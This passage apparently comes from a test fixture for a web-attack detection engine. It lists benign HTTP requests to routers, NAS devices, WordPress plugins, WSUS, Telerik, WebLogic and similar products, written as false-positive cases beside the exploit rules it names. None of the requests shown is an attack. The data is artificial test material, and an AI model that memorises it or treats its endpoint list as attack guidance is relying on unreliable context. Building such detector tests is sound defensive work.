        "form-data; name=\"contextData\"\r\n\r\n{\"guid\":\"5f0c6a1e-8d2b-4c1a-9e7f-3b2a1c0d9e8f\"}\r\n--b1\r\n"
        "Content-Disposition: form-data; name=\"file\"; filename=\"photo.jpg\"\r\n\r\nJFIF\r\n--b1--\r\n",
        "POST /alice/index.php?module=filemanager&acc=changePerm HTTP/1.1\r\nHost: panel.example:2083\r\n"
        "Content-Type: application/x-www-form-urlencoded\r\n\r\n"
        "fileName=index.php&currentPath=%2Fhome%2Falice%2Fpublic_html%2F&recursive=&t_total=0644",
        "POST /loginok.html HTTP/1.1\r\nHost: ftp.example\r\nContent-Type: application/x-www-form-urlencoded\r\n\r\n"
        "username=alice&password=correct+horse&username_val=alice&remember=true",
        "GET /storage/filesvr.dn?t=Qm9yZGVyS2V5U3R1ZmZ8MTIzNDU2Nzg5MA%3D%3D HTTP/1.1\r\nHost: files.example\r\n\r\n",
        "GET /helpdesk/WebObjects/Helpdesk.woa/wo/5.0.17.3.1 HTTP/1.1\r\nHost: whd.example:8443\r\n\r\n",
        "POST /helpdesk/WebObjects/Helpdesk.woa/ajax/4.2 HTTP/1.1\r\nHost: whd.example:8443\r\nContent-Type: "
        "application/json\r\n\r\n{\"id\":2,\"method\":\"wopage.ticketList\",\"params\":[{\"javaClass\":"
        "\"java.util.ArrayList\",\"list\":[]}]}",
        "POST /livewire/update HTTP/1.1\r\nHost: shop.example\r\nContent-Type: application/json\r\n\r\n"
        "{\"_token\":\"abc\",\"components\":[{\"snapshot\":\"{\\\"data\\\":{\\\"q\\\":\\\"\\\","
        "\\\"tags\\\":[[],{\\\"s\\\":\\\"arr\\\"}]},\\\"checksum\\\":\\\"ab12\\\"}\","
        "\"updates\":{\"q\":\"shoes\"},\"calls\":[{\"path\":\"\",\"method\":\"search\",\"params\":[]}]}]}",
        /* words and equations in headers that are not a boolean test after a value */
        "GET / HTTP/1.1\r\nHost: www.example.com\r\nUser-Agent: Mozilla/5.0 (Linux; Android 14; SM-A546B) "
        "AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Mobile Safari/537.36\r\nCookie: a=1; and=2; "
        "prefs=or%3D3\r\nX-Note: salt and pepper, 2 or 3 = 5 or so\r\n\r\n",
        /* ordinary use of the products the late-2025/2026 KEV rules name: a D-Link DSL admin
         * setting DNS with its Basic credentials, a NAS user added to a group, OneView's id
         * pools, an EPMM in-house app download, OIM's templates with a session and a SOAP
         * ?WSDL outside the REST tree, Metro opening a web page, a SmarterMail user's forced
         * reset, a Wing FTP login, an ISE ERS internal user */
        "GET /dnscfg.cgi?dnsPrimary=8.8.8.8&dnsSecondary=8.8.4.4&dnsDynamic=0&dnsRefresh=1 HTTP/1.1\r\n"
        "Host: dsl.example\r\nAuthorization: Basic bmV0YWRtaW46UzNjcmV0\r\nReferer: http://dsl.example/dnscfg.html\r\n\r\n",
        "GET /cgi-bin/account_mgr.cgi?cmd=cgi_user_add&name=bob&pw=c2VjcmV0&group=users HTTP/1.1\r\nHost: nas.example\r\n"
        "Cookie: username=admin\r\n\r\n",
        "GET /rest/id-pools/vmac HTTP/1.1\r\nHost: oneview.example\r\nX-Api-Version: 7200\r\nAuth: LTIxNzE0MDI3\r\n\r\n",
        "GET /mifs/c/appstore/fob/3/105/sha256:kid=1,st=1341879970,h=123aabf796106cfb2ab40cbbd43ba5b44fd937f1a5856e0a95640ba6f9d71843,"
        "et=1969735722/e2327851-1e09-4463-9b5a-b524bc71fc07.ipa HTTP/1.1\r\nHost: epmm.example\r\n\r\n",
        "GET /iam/governance/applicationmanagement/api/v1/applications/templates HTTP/1.1\r\nHost: oim.example:14000\r\n"
        "Cookie: JSESSIONID=Zm9vYmFy\r\nX-Requested-By: console\r\n\r\n",
        "GET /spml-xsd/SPMLService?WSDL HTTP/1.1\r\nHost: oim.example:14000\r\n\r\n",
        "POST /open-url HTTP/1.1\r\nHost: localhost:8081\r\nContent-Type: application/json\r\n\r\n"
        "{\"url\":\"https://reactnative.dev/docs/debugging\"}",
        "POST /api/v1/auth/force-reset-password HTTP/1.1\r\nHost: mail.example\r\nContent-Type: application/json\r\n\r\n"
        "{\"IsSysAdmin\":\"false\",\"OldPassword\":\"Old-pass1\",\"Username\":\"bob@example.com\",\"NewPassword\":"
        "\"N3w-pass;2\",\"ConfirmPassword\":\"N3w-pass;2\"}",
        "POST /loginok.html HTTP/1.1\r\nHost: ftp.example\r\nContent-Type: application/x-www-form-urlencoded\r\n\r\n"
        "username=alice&password=correct+horse",
        "POST /ers/config/internaluser HTTP/1.1\r\nHost: ise.example:9060\r\nContent-Type: application/json\r\n"
        "Authorization: Basic ZXJzYWRtaW46UzNjcmV0\r\n\r\n{\"InternalUser\":{\"name\":\"alice\",\"password\":\"S3cret;pw\","
        "\"changePassword\":true}}",
        /* ordinary use of the DVR, camera, NAS and router pages the RondoDox-era rules name: a TVT
         * allow-list entry, a DIR-816 ping, the G103 login page in English, a GeoVision snapshot, a
         * D-Link firmware check, a DNS-343 test mail, the NUUO page without a log, a Wemo state query,
         * a Wavlink login with its hex key, a Vitogate address, a DCS-930L snapshot, a Zivif address
         * test, an ASMAX page, a FiberHome status page and a DCS rtpd.cgi start */
        "POST /editBlackAndWhiteList HTTP/1.1\r\nHost: nvr.example\r\nContent-Type: text/xml\r\n\r\n<?xml version=\"1.0\" "
        "encoding=\"utf-8\"?><request version=\"1.0\" systemType=\"NVMS-9000\" clientType=\"WEB\"><content><switch>true"
        "</switch><filterList type=\"list\"><item><switch>true</switch><addressType>ip</addressType><ip>192.168.1.20</ip>"
        "</item></filterList></content></request>",
        "POST /goform/Diagnosis HTTP/1.1\r\nHost: dir816.example\r\nContent-Type: application/x-www-form-urlencoded\r\n\r\n"
        "tokenid=1893736414&pingAddr=192.168.0.1&sendNum=4",
        "GET /cgi-bin/luci?language=en HTTP/1.1\r\nHost: ont.example\r\n\r\n",
        "GET /PictureCatch.cgi?username=admin&password=S3cret&channel=1&data_type=0 HTTP/1.1\r\nHost: cam.example\r\n\r\n",
        "POST /service.cgi HTTP/1.1\r\nHost: dir815.example\r\nCookie: uid=Ab12Cd34Ef\r\nContent-Type: "
        "application/x-www-form-urlencoded\r\n\r\nEVENT=CHECKFW",
        "POST /goform/Mail_Test HTTP/1.1\r\nHost: nas.example\r\nContent-Type: application/x-www-form-urlencoded\r\n\r\n"
        "f_auth=1&f_smtpserver=smtp.example.com&f_sender=nas%40example.com&f_sendto=admin%40example.com",
        "GET /__debugging_center_utils___.php HTTP/1.1\r\nHost: nvr.example\r\n\r\n",
        "POST /upnp/control/basicevent1 HTTP/1.1\r\nHost: wemo.example:49153\r\nSOAPACTION: "
        "\"urn:Belkin:service:basicevent:1#GetBinaryState\"\r\nContent-Type: text/xml\r\n\r\n<?xml version=\"1.0\" "
        "encoding=\"utf-8\"?><s:Envelope xmlns:s=\"http://schemas.xmlsoap.org/soap/envelope/\"><s:Body>"
        "<u:GetBinaryState xmlns:u=\"urn:Belkin:service:basicevent:1\"></u:GetBinaryState></s:Body></s:Envelope>",
        "POST /cgi-bin/login.cgi HTTP/1.1\r\nHost: wavlink.example\r\nContent-Type: application/x-www-form-urlencoded\r\n\r\n"
        "newUI=1&page=login&username=admin&langChange=0&ipaddr=192.168.10.2&login_page=login.shtml&homepage=main.shtml"
        "&hostname=wifi.wavlink.com&key=5f3a9c1d7e&password=S3cret&lang_select=en",
        "POST /cgi-bin/vitogate.cgi HTTP/1.1\r\nHost: vitogate.example\r\nContent-Type: application/json\r\n\r\n"
        "{\"method\":\"put\",\"form\":\"form-4-8\",\"session\":\"a1b2c3\",\"params\":{\"ipaddr\":\"192.168.1.40\"}}",
        "GET /image/jpeg.cgi HTTP/1.1\r\nHost: dcs930l.example\r\n\r\n",
        "GET /cgi-bin/iptest.cgi?cmd=iptest.cgi&-time=1504225666237&-url=192.168.1.1 HTTP/1.1\r\nHost: cam.example\r\n\r\n",
        "GET /cgi-bin/webcm?getpage=html/index.html HTTP/1.1\r\nHost: asmax.example\r\n\r\n",
        "GET /html/status_deviceinfo.html HTTP/1.1\r\nHost: ont.example\r\n\r\n",
        "GET /cgi-bin/rtpd.cgi?action=start HTTP/1.1\r\nHost: dcs.example\r\n\r\n",
        /* a Solr query, the Metabase UI (its cookie) asking for its properties, an app's own
         * a=fetch, an IOS admin running a show command with credentials, an ordinary
         * RadAsyncUpload of a PDF (rauPostData under a site's own key) */
        /* kubectl with its token, an Elasticsearch client with its credentials, WordPress's own
         * about page and XML-RPC endpoint */
        "POST /login HTTP/1.1\r\nHost: grafana.example:3000\r\nContent-Type: application/json\r\n\r\n"
        "{\"user\":\"admin\",\"password\":\"S3cure!pass-2024\"}",
        "GET /api/v1/namespaces/default/pods?limit=500 HTTP/1.1\r\nHost: k8s.example:6443\r\n"
        "User-Agent: kubectl/v1.29.2 (linux/amd64) kubernetes/4b8e819\r\nAuthorization: Bearer eyJhbGciOiJSUzI1NiJ9.e30.c2ln\r\n\r\n",
        "GET /_cat/indices?v HTTP/1.1\r\nHost: es.example:9200\r\nAuthorization: Basic ZWxhc3RpYzpzM2NyZXQ=\r\n\r\n",
        "GET /wp-admin/about.php HTTP/1.1\r\nHost: blog.example\r\nCookie: wordpress_logged_in_abc=editor%7C1700000000\r\n\r\n",
        "POST /xmlrpc.php HTTP/1.1\r\nHost: blog.example\r\nContent-Type: text/xml\r\n\r\n"
        "<?xml version=\"1.0\"?><methodCall><methodName>demo.sayHello</methodName></methodCall>",
        "GET /solr/techproducts/select?q=name%3Aipod&wt=json HTTP/1.1\r\nHost: solr.example:8983\r\n\r\n",
        "GET /api/session/properties HTTP/1.1\r\nHost: metabase.example:3000\r\nAccept: application/json\r\n"
        "Cookie: metabase.DEVICE=0b9c6a43-66ad-4e0b-9f4c-2a8b0a0e7d1f\r\n\r\n",
        "GET /index.php?a=fetch&content=news&page=2 HTTP/1.1\r\nHost: cms.example\r\n\r\n",
        "GET /level/15/exec/-/show/version/CR HTTP/1.1\r\nHost: router.example\r\n"
        "Authorization: Basic bmV0b3BzOnM0ZmVQYXNz\r\n\r\n",
        "POST /Telerik.Web.UI.WebResource.axd?type=rau HTTP/1.1\r\nHost: intranet.example\r\n"
        "Content-Type: multipart/form-data; boundary=----WebKitFormBoundaryQ2\r\n\r\n"
        "------WebKitFormBoundaryQ2\r\nContent-Disposition: form-data; name=\"rauPostData\"\r\n\r\n"
        "q8Yl2v0N3kQe7b1x9Rj4TgHk5s0PzWcA6uMfLd8oViY=&Zt3pK9wX1cQv7bN2mR5sJ8eHa0LfU4gYdO6iTkEr3Ws=\r\n"
        "------WebKitFormBoundaryQ2\r\nContent-Disposition: form-data; name=\"file\"; filename=\"blob\"\r\n"
        "Content-Type: application/octet-stream\r\n\r\n%PDF-1.4\r\n"
        "------WebKitFormBoundaryQ2\r\nContent-Disposition: form-data; name=\"fileName\"\r\n\r\nQ3-report.pdf\r\n"
        "------WebKitFormBoundaryQ2\r\nContent-Disposition: form-data; name=\"metadata\"\r\n\r\n"
        "{\"TotalChunks\":1,\"ChunkIndex\":0,\"TotalFileSize\":9,\"UploadID\":\"1699999999.pdf\"}\r\n"
        "------WebKitFormBoundaryQ2--\r\n",
        "POST /cgi-bin/system_mgr.cgi HTTP/1.1\r\nHost: nas.example\r\nContent-Type: application/x-www-form-urlencoded\r\n"
        "\r\nC1=ON&cmd=cgi_ntp_time&f_ntp_server=pool.ntp.org",
        "POST /cgi-bin/cstecgi.cgi HTTP/1.1\r\nHost: totolink.example\r\nContent-Type: application/x-www-form-urlencoded\r\n"
        "\r\n{\"command\":\"www.example.com\",\"num\":\"30\",\"topicurl\":\"setTracerouteCfg\"}",
        "POST /storfs-asup HTTP/1.1\r\nHost: hx.example\r\nContent-Type: application/x-www-form-urlencoded\r\n\r\n"
        "action=upload&token=8c1f2e4a9b&mode=scheduled",
        "GET /guestaccess.aspx HTTP/1.1\r\nHost: moveit.example\r\nUser-Agent: Mozilla/5.0\r\n\r\n",
        "POST /boardDataWW.php HTTP/1.1\r\nHost: wnap320.example\r\nContent-Type: application/x-www-form-urlencoded\r\n\r\n"
        "macAddress=aabbccddeeff&reginfo=1&writeData=Submit",
        "POST /manager_dev_ping_t.gch HTTP/1.1\r\nHost: h108l.example\r\nContent-Type: application/x-www-form-urlencoded"
        "\r\n\r\nHost=www.example.com&NumofRepeat=4&DataBlockSize=64&DiagnosticsState=Requested&IF_ACTION=new&IF_IDLE=submit",
        "POST /login.gch HTTP/1.1\r\nHost: h108l.example\r\nContent-Type: application/x-www-form-urlencoded\r\n\r\n"
        "Frm_Logintoken=4&Username=admin&Password=S3cret",
        /* ordinary use of the RondoDox-era device pages: an Airspan ping test, a smartRTU ping check,
         * a mongo-express document check, a Teltonika hotspot login whose password has ; and |, a
         * Tuoshi 4G router JSON setting with the same, a LinuxKI trace view and a Ruijie traceroute */
        "POST /cgi-bin/diagnostics.cgi HTTP/1.1\r\nHost: airspot.example\r\nContent-Type: application/x-www-form-urlencoded\r\n\r\n"
        "Command=pingDiagnostic&targetIP=192.168.1.1&packetSize=55&timeOut=10&count=1",
        "POST /action.php HTTP/1.1\r\nHost: rtu.example\r\nContent-Type: application/x-www-form-urlencoded\r\n\r\n"
        "host=192.168.1.1&PingCheck=Test",
        "POST /checkValid HTTP/1.1\r\nHost: mongo-express.example:8081\r\nContent-Type: application/x-www-form-urlencoded\r\n\r\n"
        "document=%7B%22process%22%3A%22billing%22%2C%22status%22%3A%22ok%22%7D",
        "POST /cgi-bin/hotspotlogin.cgi HTTP/1.1\r\nHost: 192.168.2.1\r\nContent-Type: application/x-www-form-urlencoded\r\n\r\n"
        "username=guest&password=pa%3Bss%7Cw0rd&uamip=192.168.2.1&uamport=3990&userurl=http%3A%2F%2Fexample.com%2F&login=1",
        "POST /goform/formJsonAjaxReq HTTP/1.1\r\nHost: 192.168.100.1\r\nContent-Type: application/json\r\n\r\n"
        "{\"action\":\"set_wifi\",\"data\":{\"ssid\":\"Home;Net\",\"key\":\"a|b;c d\",\"enable\":1}}",
        "GET /linuxki/experimental/vis/kivis.php?type=kitrace&pid=1234 HTTP/1.1\r\nHost: perf.example\r\n\r\n",
        "POST /bf/tracert HTTP/1.1\r\nHost: bcr.example\r\nContent-Type: application/json\r\n\r\n"
        "{\"tracert_address\": \"www.example.com\", \"is_first_req\": true}",
        /* ordinary use of the products the WSUS, Mirth Connect, SysAid, Web Help Desk, Ivanti, Cisco WLC,
         * CouchDB and Zyxel NAS rules name: a client's GetCookie with its own short cookie, a client's
         * ReportEventBatch, a Mirth user created through the API, a SysAid user-entry page, a WHD REST
         * call with another account, a proxied Ivanti login page, a WLC AP image upload, a CouchDB user
         * with one roles key and a config read, a Zyxel NAS mail log schedule */
        "POST /ClientWebService/Client.asmx HTTP/1.1\r\nHost: wsus.example:8530\r\nUser-Agent: Windows-Update-Agent\r\n"
        "Content-Type: text/xml; charset=utf-8\r\nSOAPAction: \"http://www.microsoft.com/SoftwareDistribution/Server/"
        "ClientWebService/GetCookie\"\r\n\r\n<?xml version=\"1.0\" encoding=\"utf-8\"?><soap:Envelope xmlns:soap="
        "\"http://schemas.xmlsoap.org/soap/envelope/\"><soap:Body><GetCookie xmlns=\"http://www.microsoft.com/"
        "SoftwareDistribution/Server/ClientWebService\"><authCookies><AuthorizationCookie><PlugInId>SimpleTargeting"
        "</PlugInId><CookieData>AQAAAM8C3B4f9e1Wk2QyZ0FhT2w=</CookieData></AuthorizationCookie></authCookies>"
        "<oldCookie><Expiration>2025-10-24T13:12:44Z</Expiration><EncryptedData>Kq0c4rV9mJ2yZ6pL1sT8wX3nB5hG7dF0aE4u"
        "Q2iO9kR1tY6vC8xN3mW5zA7bH2jD4fS0gL9pU1eI6oK3rT8yV5wQ7nM2cX4bZ1aJ6hF9gD0sE3tR5uY8iO2pK7lN4mB1vC6xW9zA3qS0dF"
        "==</EncryptedData></oldCookie><lastChange>2025-10-23T09:12:44Z</lastChange><currentTime>"
        "2025-10-24T09:12:44Z</currentTime><protocolVersion>1.20</protocolVersion></GetCookie></soap:Body>"
        "</soap:Envelope>",
        "POST /ReportingWebService/ReportingWebService.asmx HTTP/1.1\r\nHost: wsus.example:8530\r\nUser-Agent: "
        "Windows-Update-Agent\r\nContent-Type: text/xml; charset=utf-8\r\nSOAPAction: \"http://www.microsoft.com/"
        "SoftwareDistribution/ReportEventBatch\"\r\n\r\n<soap:Envelope xmlns:soap=\"http://schemas.xmlsoap.org/soap/"
        "envelope/\"><soap:Body><ReportEventBatch xmlns=\"http://www.microsoft.com/SoftwareDistribution\"><cookie>"
        "<Expiration>2025-10-25T09:12:50Z</Expiration><EncryptedData>wjCa81ZqRP5WMUpuifpo23qgm0gRhEG4==</EncryptedData>"
        "</cookie><clientTime>2025-10-24T09:12:51.204</clientTime><eventBatch><ReportingEvent><BasicData><EventID>147"
        "</EventID><SourceID>301</SourceID><Win32HResult>0</Win32HResult><AppName>AutomaticUpdates</AppName>"
        "</BasicData><ExtendedData><MiscData><string>DownloadPriority=1</string><string>ClientVersion=10.0.20348.1"
        "</string></MiscData></ExtendedData></ReportingEvent></eventBatch></ReportEventBatch></soap:Body>"
        "</soap:Envelope>",
        "POST /api/users HTTP/1.1\r\nHost: mirth.example:8443\r\nX-Requested-With: OpenAPI\r\nContent-Type: "
        "application/xml\r\nCookie: JSESSIONID=node01abc2def3\r\n\r\n<user><username>alice</username><email>"
        "alice@example.com</email><firstName>Alice</firstName><lastName>Smith</lastName></user>",
        "GET /userentry?accountId=acme&symbolName=&base64UserName= HTTP/1.1\r\nHost: sysaid.example:8080\r\n\r\n",
        "GET /helpdesk/WebObjects/Helpdesk.woa/ra/OrionTickets/ HTTP/1.1\r\nHost: whd.example:8443\r\n"
        "Authorization: Basic b3Jpb246UzNjcmV0LXB3\r\nAccept: application/json\r\n\r\n",
        "GET /dana-na/auth/url_default/welcome.cgi HTTP/1.1\r\nHost: vpn.example\r\nUser-Agent: Mozilla/5.0\r\n"
        "X-Forwarded-For: 203.0.113.7, 198.51.100.2\r\n\r\n",
        "POST /ap_spec_rec/upload/ HTTP/1.1\r\nHost: wlc.example:8443\r\nCookie: jwt=eyJhbGciOiJIUzI1NiJ9.e30.x\r\n"
        "Content-Type: multipart/form-data; boundary=b0\r\n\r\n--b0\r\nContent-Disposition: form-data; name=\"file\"; "
        "filename=\"ap3g3-k9w8-tar.153-3.JPQ\"\r\nContent-Type: application/octet-stream\r\n\r\nAPIMAGE\r\n--b0--\r\n",
        "PUT /_users/org.couchdb.user:alice HTTP/1.1\r\nHost: couch.example:5984\r\nContent-Type: application/json\r\n\r\n"
        "{\"name\":\"alice\",\"password\":\"S3cret\",\"roles\":[\"reader\"],\"type\":\"user\"}",
        "GET /_node/_local/_config/query_servers HTTP/1.1\r\nHost: couch.example:5984\r\n"
        "Authorization: Basic YWxpY2U6UzNjcmV0\r\n\r\n",
        "GET /_config HTTP/1.1\r\nHost: couch.example:5984\r\nAuthorization: Basic YWxpY2U6UzNjcmV0\r\n\r\n",
        "POST /cmd,/ck6fup6/zylog_main/configure_mail_syslog HTTP/1.1\r\nHost: nas326.example\r\nContent-Type: "
        "application/x-www-form-urlencoded\r\n\r\nschedulePeriod=daily&scheduleHour=3&scheduleMinute=30",
        "POST /8021xsupport.html HTTP/1.1\r\nHost: phone.example\r\nContent-Type: application/x-www-form-urlencoded\r\n\r\n"
        "subScreen=&802.1x+eap+type=1&802.1x+identity=sip-6869-lobby&802.1x+md5+password=",
        "POST /app/options.py HTTP/1.1\r\nHost: roxy.example\r\nContent-Type: application/x-www-form-urlencoded\r\n"
        "X-Requested-With: XMLHttpRequest\r\n\r\nserv=10.0.0.5&ipbackend=web_backend&backend_server=10.0.0.21&token=a1b2c3",
        "POST /cgi-bin/luci/;stok=5f0c2e9a8b7d6c4e/admin/smart_network?form=tmp_avira HTTP/1.1\r\nHost: 192.0.2.1\r\n"
        "Content-Type: application/x-www-form-urlencoded\r\n\r\n"
        "operation=getInsightSites&ownerId=2&date=today&type=visit&startIndex=0&amount=10",
        "POST /cgi-bin/action HTTP/1.1\r\nHost: 192.0.2.1\r\nContent-Type: application/x-www-form-urlencoded\r\n\r\n"
        "action=ntp&ntp_enable=1&ntp_server=ntp.nict.jp&timezone=9",
        /* ordinary use next to the honeypot top-request rules: a book search by author name, a WordPress
         * author archive, Slider Revolution and Duplicator serving their own files, a Joomla field list
         * ordered by a column, a Jira gadget fetching its own REST URL, an SMS gateway integration with
         * its own login, a FortiGate SSL VPN login with a real password, WebLogic's wls-wsat SOAP call */
        "GET /books?author=tolkien&page=2 HTTP/1.1\r\nHost: www.example.com\r\n\r\n",
        "GET /author/alice/ HTTP/1.1\r\nHost: blog.example\r\n\r\n",
        "GET /wp-admin/admin-ajax.php?action=revslider_show_image&img=uploads%2F2024%2F05%2Fslide1.jpg&w=320 HTTP/1.1\r\n"
        "Host: wp.example\r\n\r\n",
        "GET /wp-admin/admin-ajax.php?action=duplicator_download&file=20240501_site_archive.zip&hash=5f3a2c HTTP/1.1\r\n"
        "Host: wp.example\r\nCookie: wordpress_logged_in_abc=alice\r\n\r\n",
        "GET /index.php?option=com_fields&view=fields&context=com_content.article&list[fullordering]="
        "a.ordering%20ASC HTTP/1.1\r\nHost: joomla.example\r\n\r\n",
        "POST /plugins/servlet/gadgets/makeRequest HTTP/1.1\r\nHost: jira.example\r\nContent-Type: "
        "application/x-www-form-urlencoded\r\n\r\nurl=https%3A%2F%2Fjira.example%2Frest%2Fgadget%2F1.0%2Fintro&httpMethod=GET",
        "GET /cgi-bin/sms_send?username=alarmapi&password=Kx7-pump-42&number=%2B37060000001&text=Pump+2+pressure+low "
        "HTTP/1.1\r\nHost: rut955.example\r\n\r\n",
        "POST /remote/logincheck HTTP/1.1\r\nHost: vpn.example:10443\r\nContent-Type: application/x-www-form-urlencoded\r\n\r\n"
        "ajax=1&username=alice&realm=&credential=correct+horse+battery",
        "POST /wls-wsat/CoordinatorPortType HTTP/1.1\r\nHost: wls.example:7001\r\nContent-Type: text/xml\r\n\r\n"
        "<soapenv:Envelope xmlns:soapenv=\"http://schemas.xmlsoap.org/soap/envelope/\"><soapenv:Body><Prepare/>"
        "</soapenv:Body></soapenv:Envelope>",
        /* ordinary use of the WordPress plugins next to their exploit rules: an Ultimate Member sign-up,
         * an Essential Addons reset with its key, Royal Elementor, Fancy Product Designer, wpDiscuz and
         * Contact Form 7 taking a PDF or a photo, Post SMTP pairing its app with a real key, a WP GDPR
         * data request, LayerSlider's popup by number, a Depicter lead search, tagDiv saving its CSS,
         * a blog's pingback, the installer's second step, a logged-in WP Fastest Cache visitor */
        "POST /register/ HTTP/1.1\r\nHost: wp.example\r\nContent-Type: application/x-www-form-urlencoded\r\n\r\n"
        "user_login-7=alice&user_email-7=alice%40example.com&user_password-7=Correct%20horse%209&"
        "confirm_user_password-7=Correct%20horse%209&form_id=7&um_request=&_wpnonce=5c2a9e1b7d",
        "POST /wp-admin/admin-ajax.php HTTP/1.1\r\nHost: wp.example\r\nContent-Type: application/x-www-form-urlencoded\r\n\r\n"
        "action=login_or_register_user&eael-resetpassword-submit=true&page_id=124&widget_id=224&"
        "eael-resetpassword-nonce=ba5d8a0954&eael-pass1=Correct%20horse%209&eael-pass2=Correct%20horse%209&"
        "rp_login=alice&rp_key=Qm3xY8pLk2vT0aZ9wR1s",
        "POST /wp-admin/admin-ajax.php HTTP/1.1\r\nHost: wp.example\r\nContent-Type: multipart/form-data; boundary=----b\r\n\r\n"
        "------b\r\nContent-Disposition: form-data; name=\"action\"\r\n\r\nwpr_addons_upload_file\r\n"
        "------b\r\nContent-Disposition: form-data; name=\"allowed_file_types\"\r\n\r\npdf,doc,docx\r\n"
        "------b\r\nContent-Disposition: form-data; name=\"uploaded_file\"; filename=\"resume.pdf\"\r\n"
        "Content-Type: application/pdf\r\n\r\n%PDF-1.7\r\n------b--\r\n",
        "POST /wp-content/plugins/fancy-product-designer/inc/custom-image-handler.php HTTP/1.1\r\nHost: shop.example\r\n"
        "Content-Type: multipart/form-data; boundary=----b\r\n\r\n"
        "------b\r\nContent-Disposition: form-data; name=\"saveOnServer\"\r\n\r\n1\r\n"
        "------b\r\nContent-Disposition: form-data; name=\"uploadedFile\"; filename=\"dog.jpg\"\r\n"
        "Content-Type: image/jpeg\r\n\r\nJFIF\r\n------b--\r\n",
        "POST /wp-admin/admin-ajax.php HTTP/1.1\r\nHost: blog.example\r\nContent-Type: multipart/form-data; boundary=----b\r\n\r\n"
        "------b\r\nContent-Disposition: form-data; name=\"action\"\r\n\r\nwmuUploadFiles\r\n"
        "------b\r\nContent-Disposition: form-data; name=\"wmu_files[0]\"; filename=\"IMG_2041.jpg\"\r\n"
        "Content-Type: image/jpeg\r\n\r\nJFIF\r\n------b--\r\n",
        "POST /wp-json/contact-form-7/v1/contact-forms/5/feedback HTTP/1.1\r\nHost: wp.example\r\n"
        "Content-Type: multipart/form-data; boundary=----b\r\n\r\n"
        "------b\r\nContent-Disposition: form-data; name=\"your-name\"\r\n\r\nAlice\r\n"
        "------b\r\nContent-Disposition: form-data; name=\"file-cv\"; filename=\"alice cv.pdf\"\r\n"
        "Content-Type: application/pdf\r\n\r\n%PDF-1.7\r\n------b--\r\n",
        "POST /wp-json/post-smtp/v1/connect-app HTTP/1.1\r\nHost: wp.example\r\nContent-Type: application/json\r\n"
        "fcm-token: dK3x9_fcmTokenFromTheApp\r\nauth-key: 7c1e4f0a9b2d48e6a35f0c9d1e2b7a64\r\ndevice: Pixel 7\r\n\r\n{}",
        "POST /wp-admin/admin-ajax.php HTTP/1.1\r\nHost: wp.example\r\nContent-Type: application/x-www-form-urlencoded\r\n\r\n"
        "action=wpgdprc_process_action&security=0c4b1e8e21&data=%7B%22type%22%3A%22request_data%22%2C%22email%22%3A"
        "%22alice%40example.com%22%7D",
        "GET /wp-admin/admin-ajax.php?action=ls_get_popup_markup&id=3 HTTP/1.1\r\nHost: wp.example\r\n\r\n",
        "GET /wp-admin/admin-ajax.php?s=john&perpage=20&page=1&orderBy=source_id&dateEnd=&dateStart=&order=DESC&"
        "sources=&action=depicter-lead-index HTTP/1.1\r\nHost: wp.example\r\nCookie: wordpress_logged_in_abc=alice\r\n\r\n",
        "POST /wp-json/tdw/save_css HTTP/1.1\r\nHost: news.example\r\nX-WP-Nonce: 4f2a9c1e0b\r\n"
        "Content-Type: application/x-www-form-urlencoded; charset=UTF-8\r\n\r\n"
        "compiledCss%5Btd_block_1%5D=.td_block_1%7Bcolor%3A%23222%3B%7D&lessInput=&postId=12",
        "POST /xmlrpc.php HTTP/1.1\r\nHost: blog.example\r\nContent-Type: text/xml\r\n\r\n"
        "<?xml version=\"1.0\"?><methodCall><methodName>pingback.ping</methodName><params><param><value><string>"
        "https://other-blog.example/2024/05/a-reply/</string></value></param><param><value><string>"
        "https://blog.example/2024/05/the-post/</string></value></param></params></methodCall>",
        "GET /wp-admin/install.php?language=en_US HTTP/1.1\r\nHost: new.example\r\n"
        "Referer: http://new.example/wp-admin/setup-config.php?step=2\r\n\r\n",
        "GET /shop/ HTTP/1.1\r\nHost: shop.example\r\nCookie: wordpress_logged_in_5b93292=alice%7C1700000000%7CQm3x%7C9f2c\r\n\r\n",
        /* Jenkins' pipeline editor checking a script as its author types it */
        "POST /job/build-app/descriptorByName/org.jenkinsci.plugins.workflow.cps.CpsFlowDefinition/checkScriptCompile HTTP/1.1\r\n"
        "Host: ci.example\r\nJenkins-Crumb: 3f9c2a\r\nCookie: JSESSIONID.1a2b=node0x\r\n"
        "Content-Type: application/x-www-form-urlencoded\r\n\r\nvalue=pipeline+%7B+agent+any+stages+%7B+stage%28%27Build%27%29+%7B+"
        "steps+%7B+sh+%27make%27+%7D+%7D+%7D+%7D",
        /* blueimp jQuery-File-Upload's own page: the file list (XHR) and a photo upload */
        "GET /jquery-file-upload/server/php/ HTTP/1.1\r\nHost: app.example\r\nX-Requested-With: XMLHttpRequest\r\n"
        "Referer: https://app.example/jquery-file-upload/\r\n\r\n",
        "POST /jquery-file-upload/server/php/ HTTP/1.1\r\nHost: app.example\r\nContent-Type: multipart/form-data; boundary=b\r\n"
        "Referer: https://app.example/jquery-file-upload/\r\n\r\n--b\r\nContent-Disposition: form-data; name=\"files[]\"; "
        "filename=\"holiday.jpg\"\r\nContent-Type: image/jpeg\r\n\r\n\xff\xd8\xff\xe0JFIF\r\n--b--\r\n",
        "GET /.environment-check.html HTTP/1.1\r\nHost: app.example\r\n\r\n",
        "POST /wsman HTTP/1.1\r\nHost: scx.example:1270\r\nAuthorization: Basic b21pbW9uOkt4Ny1wdW1wLTQy\r\n"
        "Content-Type: application/soap+xml;charset=UTF-8\r\n\r\n<s:Envelope><s:Body><p:ExecuteShellCommand_INPUT "
        "xmlns:p=\"http://schemas.dmtf.org/wbem/wscim/1/cim-schema/2/SCX_OperatingSystem\"><p:command>df -k</p:command>"
        "<p:timeout>60</p:timeout></p:ExecuteShellCommand_INPUT></s:Body></s:Envelope>",
        "PUT /v1/agent/service/register HTTP/1.1\r\nHost: consul.example:8500\r\nContent-Type: application/json\r\n\r\n"
        "{\"ID\":\"web-1\",\"Name\":\"web\",\"Port\":8080,\"Check\":{\"HTTP\":\"http://10.0.0.5:8080/health\",\"Interval\":\"10s\"}}",
        "GET /jobs/?doAs=alice HTTP/1.1\r\nHost: spark.example:4040\r\n\r\n",
        "GET /redfish/v1/Systems HTTP/1.1\r\nHost: bmc.example\r\nX-Auth-Token: 3f9c2a7e5b1d\r\nAccept: application/json\r\n\r\n",
        "POST /zabbix/api_jsonrpc.php HTTP/1.1\r\nHost: zabbix.example\r\nContent-Type: application/json-rpc\r\n\r\n"
